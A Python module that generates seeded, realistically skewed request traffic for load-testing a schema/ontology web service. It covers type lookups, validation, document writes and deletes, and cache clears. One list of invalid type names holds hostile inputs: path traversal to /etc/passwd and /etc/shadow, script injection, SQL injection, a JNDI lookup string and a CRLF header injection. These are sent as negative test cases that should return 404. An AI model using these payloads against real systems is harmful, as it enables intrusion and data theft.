"""What clients ask of the service: seeded, skewed as real traffic is, with its mistakes and its attacks."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

from oms.app.ontology import Ontology
from oms.app.rehearsal.instances import DOCUMENTS, Instances, as_body, document_id
from oms.app.rehearsal.mix import mixed
from oms.app.rehearsal.request import Errand, Request, request
from oms.app.rehearsal.zipf import Zipf

_TENANTS = 300
_INSTANCES = 400
_IMPORT = 100

POPULAR = str.split(
    "Person Organization Product Offer Article LocalBusiness Event Recipe Place WebPage Review Book Movie JobPosting VideoObject"
    " Restaurant PostalAddress ImageObject CreativeWork Thing FAQPage Course Hotel SoftwareApplication MusicGroup"
    " MedicalCondition Store Dataset"
)
"""Types that web pages carry most, as far as anybody counts; the rest of the vocabulary follows in an order of the seed."""

_NO_TYPES = (
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fshadow",
    "<script>alert(1)</script>",
    "' OR '1'='1",
    "Person; DROP TABLE types",
    "${jndi:ldap://example.org/a}",
    "Person\r\nX-Admin: 1",
    "\x00",
    "Persn",
    "thing",
    "\N{SNOWMAN}",
    "A" * 300,
)
"""Names that are no types: attacks, slips and nonsense."""

_NOT_FOUND = frozenset({404})
_MAYBE = frozenset({200, 404})


class Traffic:
    """An endless stream of errands; the same seed makes the same ones.

    A share of the clients takes no old answer or only a fresh one, some repeat what they have just done because they did not wait for the
    answer, some ask for what is not there.
    """

    def __init__(self, ontology: Ontology, seed: int) -> None:
        self._chance = chance = random.Random(seed)
        self._make = Instances(ontology, chance)
        rest = sorted(set(ontology.types) - set(POPULAR))
        chance.shuffle(rest)
        self._types = Zipf([*POPULAR, *rest], exponent=0.9, chance=chance)
        self._tenants = Zipf([f"tenant-{n:03}" for n in range(_TENANTS)], exponent=0.7, chance=chance)
        bodies = [as_body(self._make.instance(self._types.choose(), flawed=n % 5 == 4)) for n in range(_INSTANCES)]
        self._bodies = Zipf(bodies, exponent=0.8, chance=chance)
        self._kinds: list[tuple[float, Callable[[], Errand]]] = [
            (0.30, self._object_type),
            (0.10, self._ancestors),
            (0.08, self._descendants),
            (0.22, self._validate),
            (0.02, self._validate_new),
            (0.17, self._read_document),
            (0.05, self._write_document),
            (0.02, self._recreate_document),
            (0.02, self._no_type),
            (0.005, self._no_json),
            (0.01, self._health),
            (0.01, self._docs),
            (0.005, self._configuration),
            (0.0005, self._clear),
        ]

    def __iter__(self) -> Iterator[Errand]:
        return mixed(self._chance, self._kinds)

    def deployment(self) -> list[Errand]:
        """Return what a deployment sends to one process: read your configuration anew, then the import of all documents."""
        reload = request("reload", "POST", "/configuration/reload", expected=frozenset({204}))
        return [(each,) for each in (reload, *self.imports())]

    def imports(self) -> list[Request]:
        """Return the import of the whole universe of documents, to be sent to one process in this order."""
        documents = [self._make.document(number) for number in range(DOCUMENTS)]
        return [
            request("import", "POST", "/documents", body=as_body(documents[start : start + _IMPORT]))
            for start in range(0, DOCUMENTS, _IMPORT)
        ]

    def _tenant(self) -> str | None:
        return self._tenants.choose() if self._chance.random() > 0.02 else None

    def _freshness(self) -> list[tuple[str, str]]:
        luck = self._chance.random()
        if luck < 0.05:
            return [("cache-control", "no-cache" if luck < 0.03 else "max-age=0")]
        return [("cache-control", "max-age=60")] if luck < 0.10 else []

    def _type_request(self, question: str, suffix: str) -> Errand:
        path = f"/types/{self._types.choose()}{suffix}"
        return (request(question, "GET", path, tenant=self._tenant(), headers=self._freshness()),)

    def _object_type(self) -> Errand:
        return self._type_request("object type", "")

    def _ancestors(self) -> Errand:
        return self._type_request("ancestors", "/ancestors")

    def _descendants(self) -> Errand:
        return self._type_request("descendants", "/descendants")

    def _validate(self) -> Errand:
        return (request("validate", "POST", "/validate", tenant=self._tenant(), body=self._bodies.choose()),)

    def _validate_new(self) -> Errand:
        body = as_body(self._make.instance(self._types.choose()))
        again = request("validate", "POST", "/validate", tenant=self._tenant(), body=body)
        return (again,) * self._chance.randint(1, 4)

    def _read_document(self) -> Errand:
        path = f"/documents/{document_id(self._chance.randrange(DOCUMENTS))}"
        return (request("read document", "GET", path, tenant=self._tenant(), expected=_MAYBE),)

    def _write_document(self) -> Errand:
        return (self._put(self._chance.randrange(DOCUMENTS), self._tenant()),)

    def _recreate_document(self) -> Errand:
        """Delete, delete again (the client did not wait for the first answer), and write anew."""
        number, tenant = self._chance.randrange(DOCUMENTS), self._tenant()
        delete = request(
            "delete document",
            "DELETE",
            f"/documents/{document_id(number)}",
            tenant=tenant,
            expected=frozenset({204, 404}),
        )
        return (delete, delete, self._put(number, tenant))

    def _put(self, number: int, tenant: str | None) -> Request:
        body = as_body(self._make.document(number))
        path = f"/documents/{document_id(number)}"
        return request("write document", "PUT", path, tenant=tenant, body=body, expected=frozenset({200, 201}))

    def _no_type(self) -> Errand:
        path = f"/types/{quote(self._chance.choice(_NO_TYPES), safe='')}"
        return (request("no type", "GET", path, tenant=self._tenant(), expected=_NOT_FOUND),)

    def _no_json(self) -> Errand:
        body = self._chance.choice((b'{"@type": "Person"', b"\xff\xfe", b'{"price": NaN}', b"[" * 200))
        return (request("no json", "POST", "/validate", tenant=self._tenant(), body=body, expected=frozenset({400})),)

    def _health(self) -> Errand:
        return (request("health", "GET", "/health"),)

    def _docs(self) -> Errand:
        return (request("docs", "GET", "/docs", tenant=self._tenant(), expected=_MAYBE),)

    def _configuration(self) -> Errand:
        return (request("configuration", "GET", "/configuration", tenant=self._tenant()),)

    def _clear(self) -> Errand:
        """A new vocabulary was deployed: what was remembered of the old one goes."""
        seam = self._chance.choice(("types", "validation"))
        return (request("clear cache", "DELETE", f"/cache/{seam}", expected=frozenset({204})),)
